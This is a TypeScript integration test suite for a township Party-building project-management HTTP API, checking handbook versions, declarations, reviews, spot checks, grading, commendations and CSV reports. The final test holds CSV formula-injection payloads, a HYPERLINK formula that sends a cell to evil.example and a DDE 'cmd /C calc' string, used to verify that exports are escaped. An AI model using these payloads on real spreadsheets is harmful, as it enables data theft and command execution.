import type { FastifyInstance } from 'fastify'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { organizationCategories } from '../../machines/index.js'
import { createTestApp } from '../support/app.js'
import { databaseKinds, openTestDatabase, type TestDatabase } from '../support/databases.js'
import { assessmentSteps, assessors, declarations, handbook, pathTo, payloads, reviewers, type Step, pathsOf } from '../support/fixtures.js'
import { client } from '../support/http.js'

/** Foundation projects start on the current machine, which files declarations instead of reviewing them (docs/versions.md). */
const foundationPathTo = pathsOf('foundation').pathTo

/** The programme's rules through the HTTP API (issue 4), each test citing its requirement. */
describe.each(databaseKinds)('the programme’s rules over HTTP on %s', (kind) => {
  let database: TestDatabase
  let app: FastifyInstance
  let api: ReturnType<typeof client>

  beforeAll(async () => {
    database = await openTestDatabase(kind)
    ;({ app } = await createTestApp(database, { start: '2026-02-01T00:00:00.000Z' }))
    api = client(app)
    for (const year of [2025, 2026]) {
      await api.ok('PUT', `/api/v1/review-groups/${year}`, { members: reviewers })
      await api.ok('PUT', `/api/v1/acceptance-groups/${year}`, { members: assessors })
    }
  })
  afterAll(async () => {
    await app?.close()
    await database?.drop()
  })

  const submitted = (id: string, step: Step) =>
    app.inject({ method: 'POST', url: `/api/v1/projects/${id}/events`, payload: step })

  it('R16: an organization names its secretary and leader in charge; its projects default to them', async () => {
    const org = await api.organization('机关第二党支部', 'organ', '周书记', '吴委员')
    const project = await api.ok('POST', '/api/v1/projects', {
      type: 'innovation',
      organizationId: org,
      year: 2026,
      declaration: { title: '机关党建+政务服务' },
    })
    expect(project.context.declaration).toMatchObject({
      firstResponsible: { name: '周书记', position: '书记' },
      directlyResponsible: { name: '吴委员', position: '分管领导' },
    })
    const parent = await api.ok('GET', `/api/v1/organizations/${org}`)
    const child = await api.ok('POST', '/api/v1/organizations', {
      name: '机关第二党支部第一党小组',
      category: 'organ',
      secretary: '郑组长',
      leaderInCharge: '王委员',
      parentId: parent.id,
    })
    expect(child.parentId).toBe(org)
  })

  it('R1: publishes handbook versions with items per category; a version never changes', async () => {
    const published = await api.ok('POST', '/api/v1/handbooks', {
      ...handbook,
      items: handbook.items.map((item) => ({ ...item, categories: [...organizationCategories] })),
    })
    expect(published).toMatchObject({ version: '2026', items: 3 })
    const village = await api.ok('GET', '/api/v1/handbooks/2026?category=village')
    expect(village.items.map((i: { code: string }) => i.code)).toEqual(['V-01', 'V-02', 'V-05'])
    expect(village.items[0]).toMatchObject({ categoryLabel: '农村', requirement: '"三会一课"', required: true })
    const again = await api.refused(409, 'POST', '/api/v1/handbooks', { ...handbook, items: [{ ...handbook.items[0], categories: ['village'] }] })
    expect(again.code).toBe('HANDBOOK_VERSION_EXISTS')
    await api.refused(404, 'GET', '/api/v1/handbooks/1999')
  })

  it('R1: a foundation declaration must cover every required item of its version for the category', async () => {
    const org = await api.organization('东山村党支部')
    const missing = await api.project('foundation', org, 2026, [], { ...declarations.foundation, handbookItems: ['V-01', 'V-05'] })
    const refusal = (await submitted(missing, { type: 'SUBMIT' })).json()
    expect(refusal).toMatchObject({ statusCode: 422, code: 'RULE_FAILED' })
    expect(refusal.details.rules).toEqual([
      expect.objectContaining({ rule: 'handbookItemsCovered', version: '2026', category: 'village', missingItems: ['V-02'], unknownItems: [] }),
    ])
    await api.send(missing, { type: 'UPDATE_DECLARATION', declaration: { handbookVersion: '1999' } })
    const unknown = (await submitted(missing, { type: 'SUBMIT' })).json()
    expect(unknown.details.rules[0]).toMatchObject({ rule: 'handbookItemsCovered', versionExists: false })
    await api.send(missing, { type: 'UPDATE_DECLARATION', declaration: { handbookVersion: '2026', handbookItems: ['V-01', 'V-02'] } })
    expect((await api.send(missing, { type: 'SUBMIT' })).state).toBe('filingReview')
  })

  it('R1: a new handbook version leaves running projects on theirs', async () => {
    const org = await api.organization('南山村党支部')
    const running = await api.project('foundation', org, 2026)
    await api.ok('POST', '/api/v1/handbooks', {
      version: '2027',
      title: '镇党建工作项目化管理手册（2027年版）',
      items: [...handbook.items, { code: 'V-09', requirement: '党员教育积分', standard: '年度积分公示', frequency: '每年', required: true }].map(
        (item) => ({ ...item, categories: ['village'] }),
      ),
    })
    expect((await api.send(running, { type: 'SUBMIT' })).state).toBe('filingReview')
    const history = await api.history(running)
    expect(history.at(-1)!.payload.facts.handbook).toMatchObject({ version: '2026', requiredItems: ['V-01', 'V-02'] })
  })

  it('R5: a second foundation project for the same organization and year is refused, naming the rule', async () => {
    const org = await api.organization('西山村党支部')
    const first = await api.project('foundation', org, 2026)
    const second = await api.refused(422, 'POST', '/api/v1/projects', {
      type: 'foundation',
      organizationId: org,
      year: 2026,
      declaration: { title: '第二个基础项目' },
    })
    expect(second).toMatchObject({ code: 'RULE_FAILED' })
    expect(second.details.rules).toEqual([expect.objectContaining({ rule: 'oneFoundationPerYear', existing: [{ id: first, state: 'draft' }] })])
    // Withdrawn, it no longer counts: a new foundation declaration may be made.
    await api.send(first, { type: 'WITHDRAW', reason: '重新申报' })
    await api.project('foundation', org, 2026)
    // Another year is another "1".
    await api.project('foundation', org, 2027)
  })

  it('R5: lists every organization’s "1+X" status and counts, and one organization’s', async () => {
    const compliant = await api.organization('"1+X"达标党支部', 'school')
    await api.project('foundation', compliant, 2026, foundationPathTo.filingReview)
    await api.project('innovation', compliant, 2026, pathTo.underReview)
    const onlyFoundation = await api.organization('只报基础项目党支部', 'enterprise')
    await api.project('foundation', onlyFoundation, 2026, foundationPathTo.filingReview)
    await api.project('innovation', onlyFoundation, 2026) // a draft is not a declaration
    const onlyElective = await api.organization('只报创新项目党支部', 'social')
    await api.project('promotion', onlyElective, 2026, pathTo.underReview)

    const list = await api.ok('GET', '/api/v1/compliance?year=2026')
    const byId = Object.fromEntries(list.items.map((i: { organizationId: string }) => [i.organizationId, i]))
    expect(byId[compliant]).toMatchObject({ foundation: 1, elective: 1, status: 'compliant', statusLabel: '达标', categoryLabel: '学校' })
    expect(byId[onlyFoundation]).toMatchObject({ foundation: 1, elective: 0, status: 'missingElective' })
    expect(byId[onlyElective]).toMatchObject({ foundation: 0, elective: 1, status: 'missingFoundation' })
    expect(list.totals.organizations).toBe(list.items.length)
    expect(list.totals.compliant).toBe(list.items.filter((i: { status: string }) => i.status === 'compliant').length)

    const one = await api.ok('GET', `/api/v1/organizations/${onlyElective}/compliance?year=2026`)
    expect(one).toMatchObject({ year: 2026, status: 'missingFoundation', statusLabel: '缺基础强化型项目' })
    await api.refused(404, 'GET', '/api/v1/organizations/00000000-0000-4000-8000-000000000000/compliance?year=2026')
  })

  it('R9: a foundation declaration’s targets may not fall below last year’s; the refusal shows last year’s values', async () => {
    const org = await api.organization('逐年提高党支部')
    const target = (value: number) => ({ ...declarations.foundation, targets: [{ indicator: '党员组织生活参与率', value, unit: '%' }] })
    // Last year's project, recorded now: its March deadline passed, so it is declared as allowed late (准予补报).
    await api.project('foundation', org, 2025, [{ type: 'ALLOW_LATE_DECLARATION', reason: '补录上一年度' }, ...foundationPathTo.filingReview!], target(90))
    const lowered = await api.project('foundation', org, 2026, [], target(85))
    const refusal = (await submitted(lowered, { type: 'SUBMIT' })).json()
    expect(refusal.details.rules).toEqual([
      expect.objectContaining({
        rule: 'targetsNotLowered',
        previousTargets: [{ indicator: '党员组织生活参与率', value: 90, unit: '%' }],
        lowered: [{ indicator: '党员组织生活参与率', unit: '%', previous: 90, current: 85 }],
      }),
    ])
    await api.send(lowered, { type: 'UPDATE_DECLARATION', declaration: { targets: [{ indicator: '党员组织生活参与率', value: 92, unit: '%' }] } })
    expect((await api.send(lowered, { type: 'SUBMIT' })).state).toBe('filingReview')
  })

  it('R8: only the year’s review group reviews, once per round; approval needs three and records the average; a return keeps earlier reviews', async () => {
    const org = await api.organization('评审测试党支部')
    const id = await api.project('innovation', org, 2026, pathTo.underReview)
    const outsider = (await submitted(id, { ...payloads.RECORD_REVIEW, type: 'RECORD_REVIEW', reviewer: '外人' })).json()
    expect(outsider.details.rules).toEqual([expect.objectContaining({ rule: 'reviewerInGroup', reviewer: '外人', reviewGroup: reviewers })])
    await api.send(id, { type: 'RECORD_REVIEW', reviewer: '评审员甲', score: 70, opinion: '目标不够具体' })
    const twice = (await submitted(id, { type: 'RECORD_REVIEW', reviewer: '评审员甲', score: 90, opinion: '再评' })).json()
    expect(twice.details.rules[0].rule).toBe('reviewerHasNotReviewed')
    expect((await submitted(id, { type: 'APPROVE' })).json().details.rules[0]).toMatchObject({ rule: 'enoughReviews', reviews: 1, required: 3 })
    await api.send(id, { type: 'RETURN_FOR_REVISION', opinion: '目标需量化' })
    await api.send(id, { type: 'RESUBMIT' })
    for (const [reviewer, score] of [['评审员甲', 80], ['评审员乙', 85], ['评审员丙', 90]] as const) {
      await api.send(id, { type: 'RECORD_REVIEW', reviewer, score, opinion: '同意' })
    }
    const approved = await api.send(id, { type: 'APPROVE' })
    expect(approved.context.reviews.map((r: { round: number; reviewer: string }) => [r.round, r.reviewer])).toEqual([
      [1, '评审员甲'],
      [2, '评审员甲'],
      [2, '评审员乙'],
      [2, '评审员丙'],
    ])
    expect(approved.context.decision).toMatchObject({ outcome: 'approved', averageScore: 85 })
    expect(await api.ok('GET', '/api/v1/review-groups/2026')).toEqual({ year: 2026, members: reviewers })
  })

  it('R10: the plan fixes matters, targets, people, responsibilities and time limits; acceptance waits for every item', async () => {
    const org = await api.organization('台账测试党支部')
    const id = await api.project('innovation', org, 2026, pathTo.implementing)
    const project = await api.get(id)
    expect(project.context.plan.items[0]).toMatchObject({ id: 'P1', matter: '制定积分细则', owner: { name: '李委员' }, dueDate: '2026-04-30' })
    const early = (await submitted(id, { type: 'REQUEST_ACCEPTANCE', summaryReport: '完成', explanations: [] })).json()
    expect(early.details.rules).toEqual([expect.objectContaining({ rule: 'planItemsSettled', unsettledPlanItems: ['P1', 'P2'] })])
    const entry = await api.send(id, { type: 'RECORD_LEDGER_ENTRY', ...payloads.RECORD_LEDGER_ENTRY })
    expect(entry.context.ledger[0]).toMatchObject({ id: 'L1', planItemId: 'P1', evidence: [{ url: 'https://example.org/minutes/0428' }] })
    const badItem = await submitted(id, { ...payloads.RECORD_LEDGER_ENTRY, type: 'RECORD_LEDGER_ENTRY', planItemId: 'P7' })
    expect(badItem.json().details.rules[0].rule).toBe('planItemExists')
    expect((await api.send(id, { type: 'REQUEST_ACCEPTANCE', ...payloads.REQUEST_ACCEPTANCE })).state).toBe('acceptanceRequested')
  })

  it('R12: draws a reproducible, audited random sample; findings only on the projects drawn', async () => {
    const org = await api.organization('抽查村党支部')
    const schoolOrg = await api.organization('抽查学校党支部', 'school')
    const inImplementation = [
      await api.project('innovation', org, 2026, pathTo.implementing),
      await api.project('promotion', org, 2026, pathTo.implementing),
      await api.project('innovation', schoolOrg, 2026, pathTo.planning),
    ]
    const drawn = await api.ok('POST', '/api/v1/spot-checks', { year: 2026, count: 2, seed: 'town-2026-q2' }, { 'x-actor': '组织科' })
    expect(drawn).toMatchObject({ method: 'count', amount: 2, seed: 'town-2026-q2', drawnBy: '组织科', reproducible: true })
    expect(drawn.selected).toHaveLength(2)
    expect(drawn.population).toEqual(expect.arrayContaining(inImplementation))
    const again = await api.ok('POST', '/api/v1/spot-checks', { year: 2026, count: 2, seed: 'town-2026-q2' })
    expect(again.selected).toEqual(drawn.selected)

    const bySchool = await api.ok('POST', '/api/v1/spot-checks', { year: 2026, percentage: 50, category: 'school' })
    expect(bySchool.population).toEqual([inImplementation[2]])
    expect(bySchool.selected).toEqual([inImplementation[2]])
    expect(bySchool.seed).toMatch(/^[0-9a-f]{32}$/)

    const picked = drawn.selected[0]
    const notPicked = drawn.population.find((id: string) => !drawn.selected.includes(id))
    const finding = { type: 'RECORD_SPOT_CHECK_FINDING', spotCheckId: drawn.id, findings: '台账齐全', rating: 'good' }
    await api.send(picked, finding)
    expect((await submitted(picked, finding)).json().details.rules[0].rule).toBe('spotCheckNotRecorded')
    expect((await submitted(notPicked, finding)).json().details.rules[0]).toMatchObject({ rule: 'drawnInSpotCheck' })
    const audit = await api.ok('GET', `/api/v1/spot-checks/${drawn.id}`)
    expect(audit.findings).toEqual([expect.objectContaining({ projectId: picked, rating: 'good', findings: '台账齐全' })])
    expect((await api.ok('GET', '/api/v1/spot-checks?year=2026')).items.length).toBeGreaterThanOrEqual(3)
    expect((await api.refused(422, 'POST', '/api/v1/spot-checks', { year: 2031, count: 1 })).code).toBe('EMPTY_POPULATION')
    expect((await api.refused(400, 'POST', '/api/v1/spot-checks', { year: 2026, count: 1, percentage: 10 })).code).toBe('VALIDATION_FAILED')
  })

  it('R14: the acceptance group assesses by all four forms; the grade uses the year’s weights and thresholds', async () => {
    await api.ok('PUT', '/api/v1/grading/2026/promotion', {
      weights: { targetAchievement: 0.25, publicSatisfaction: 0.25, comprehensiveBenefit: 0.25, replicability: 0.25 },
      thresholds: { excellent: 95, good: 85, pass: 70 },
    })
    const policies = await api.ok('GET', '/api/v1/grading/2026')
    expect(policies.policies.promotion).toMatchObject({ stored: true, thresholds: { excellent: 95 } })
    expect(policies.policies.innovation).toMatchObject({ stored: false, thresholds: { excellent: 90 } })
    expect((await api.refused(422, 'PUT', '/api/v1/grading/2026/innovation', {
      weights: { targetAchievement: 0.25, publicSatisfaction: 0.25, comprehensiveBenefit: 0.25, replicability: 0.25 },
      thresholds: { excellent: 80, good: 85, pass: 70 },
    })).code).toBe('GRADING_INVALID')

    const org = await api.organization('验收测试党支部')
    const id = await api.project('promotion', org, 2026, pathTo.acceptanceRequested)
    const [first, ...rest] = assessmentSteps(92)
    expect((await submitted(id, { ...first!, assessor: '外人' })).json().details.rules[0].rule).toBe('assessorInGroup')
    await api.send(id, first!)
    expect((await submitted(id, first!)).json().details.rules[0].rule).toBe('assessmentNotRecorded')
    const early = (await submitted(id, { type: 'EVALUATE' })).json()
    expect(early.details.rules).toEqual([
      expect.objectContaining({ rule: 'allFormsAssessed', missingForms: ['onSiteReview', 'questionnaire', 'democraticAppraisal'] }),
    ])
    for (const step of rest) await api.send(id, step)
    const evaluated = await api.send(id, { type: 'EVALUATE', comment: '组织科牵头评定' })
    expect(evaluated.state).toBe('accepted')
    // 92 everywhere is 优秀 under the default thresholds but only 良好 under this year's (excellent ≥ 95).
    expect(evaluated.context.evaluations.at(-1)).toMatchObject({
      score: 92,
      grade: 'good',
      policy: { thresholds: { excellent: 95, good: 85, pass: 70 } },
      assessors,
    })
  })

  it('R3, R15, R19: promotion records the feasibility argument, creates the system, seeds a promotion project; publicity is recorded', async () => {
    const org = await api.organization('推广测试党支部')
    const id = await api.project('innovation', org, 2026, pathTo.accepted)
    await api.send(id, { type: 'RECORD_PUBLICITY', kind: 'media', date: '2026-12-01', title: '县融媒体报道', url: 'https://example.org/news/1' })
    await api.send(id, { type: 'PROPOSE_PROMOTION', ...payloads.PROPOSE_PROMOTION })
    const institutionalized = await api.send(id, { type: 'SOLIDIFY', ...payloads.SOLIDIFY })
    expect(institutionalized.state).toBe('institutionalized')
    expect(institutionalized.context.promotion.system).toMatchObject({ feasibility: payloads.SOLIDIFY.feasibility, effectiveDate: '2027-01-01' })
    await api.send(id, { type: 'RECORD_PUBLICITY', ...payloads.RECORD_PUBLICITY })

    const systems = (await api.ok('GET', '/api/v1/systems')).items.filter((s: { sourceProjectId: string }) => s.sourceProjectId === id)
    expect(systems).toEqual([
      expect.objectContaining({ title: payloads.SOLIDIFY.systemTitle, content: payloads.SOLIDIFY.systemContent, effectiveDate: '2027-01-01' }),
    ])
    const rollingOut = await api.organization('推广承接党支部')
    const seeded = await api.ok('POST', `/api/v1/systems/${systems[0].id}/projects`, { organizationId: rollingOut, year: 2027 })
    const seededProject = await api.get(seeded.id)
    expect(seededProject).toMatchObject({ type: 'promotion', state: 'draft', title: `${payloads.SOLIDIFY.systemTitle}推广` })
    expect(seededProject.context.declaration.sourcePractice).toEqual({ projectId: id, systemId: systems[0].id, description: payloads.SOLIDIFY.systemTitle })
    await api.refused(404, 'POST', '/api/v1/systems/00000000-0000-4000-8000-000000000000/projects', { organizationId: rollingOut, year: 2027 })

    const project = await api.get(id)
    expect(project.context.publicity.map((p: { kind: string }) => p.kind)).toEqual(['media', 'onSiteMeeting'])
  })

  it('R18: commendations and rewards rest on the assessment; an innovation project commended by the county is commended again', async () => {
    const org = await api.organization('表彰测试党支部')
    const id = await api.project('innovation', org, 2026, pathTo.accepted)
    const county = await api.ok('POST', '/api/v1/commendations', {
      year: 2026,
      kind: 'commendation',
      level: 'county',
      recipientType: 'project',
      organizationId: org,
      projectId: id,
      title: '县级优秀创新项目',
      reason: '创新成效显著',
      awardedAt: '2026-12-20',
    })
    expect(county.items).toHaveLength(2)
    expect(county.items[0]).toMatchObject({ kind: 'commendation', level: 'county', basis: { grade: 'excellent', projectType: 'innovation' } })
    expect(county.items[1]).toMatchObject({ kind: 'furtherCommendation', kindLabel: '再表彰', level: 'town', followsId: county.items[0].id })
    const reward = await api.ok('POST', '/api/v1/commendations', {
      year: 2026,
      kind: 'materialReward',
      level: 'town',
      recipientType: 'worker',
      organizationId: org,
      workerName: '王干事',
      title: '优秀党务工作者',
      reason: '台账规范',
      awardedAt: '2026-12-28',
    })
    expect(reward.items).toHaveLength(1)
    const refusal = await api.refused(400, 'POST', '/api/v1/commendations', {
      year: 2026, kind: 'commendation', level: 'town', recipientType: 'worker', organizationId: org, title: '无名', reason: '无名', awardedAt: '2026-12-28',
    })
    expect(refusal.details.fields[0].path).toBe('body.workerName')
    const other = await api.organization('别的党支部')
    expect((await api.refused(422, 'POST', '/api/v1/commendations', {
      year: 2026, kind: 'commendation', level: 'town', recipientType: 'project', organizationId: other, projectId: id, title: 'x', reason: 'x', awardedAt: '2026-12-28',
    })).code).toBe('PROJECT_NOT_OF_ORGANIZATION')
    expect((await api.ok('GET', `/api/v1/commendations?projectId=${id}`)).items).toHaveLength(2)
  })

  it('R17: the year-end report, as JSON and as CSV for Excel', async () => {
    const report = await api.ok('GET', '/api/v1/reports/annual?year=2026')
    expect(report.year).toBe(2026)
    expect(report.totals.projects).toBe(report.organizations.reduce((n: number, o: { projects: unknown[] }) => n + o.projects.length, 0))
    const csv = await app.inject({ method: 'GET', url: '/api/v1/reports/annual?year=2026', headers: { accept: 'text/csv' } })
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    expect(csv.body.replace(/^\uFEFF/, '').split('\r\n')[0]).toBe(
      '年度,基层党组织,组织类别,"""1+X""情况",项目类型,项目名称,状态,阶段,评审平均分,验收得分,验收等级,缺报进展,迟报进展,抽查情况,表彰奖励',
    )
    const viaQuery = await app.inject({ method: 'GET', url: '/api/v1/reports/annual?year=2026&format=csv' })
    expect(viaQuery.body).toBe(csv.body)
  })

  it('R17: writes text that looks like a spreadsheet formula as text, not as a formula', async () => {
    const org = await api.organization('=HYPERLINK("http://evil.example/?x="&B2,"点此")')
    const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1', '\r=1']
    for (const title of formulas) await api.project('innovation', org, 2026, [], { title })
    const csv = (await app.inject({ method: 'GET', url: '/api/v1/reports/annual?year=2026&format=csv' })).body
    const rows = csv.split('\r\n').filter((row) => row.includes('HYPERLINK'))
    expect(rows).toHaveLength(formulas.length)
    // Every cell of those rows: none begins with a formula character, quoted or not.
    for (const row of rows) {
      const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))
      for (const cell of cells) expect(cell, row).not.toMatch(/^[=+\-@\t\r]/)
    }
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&B2,""点此"")"`)
    expect(csv).toContain("'@SUM(1+1)*cmd|' /C calc'!A0")
  })
})
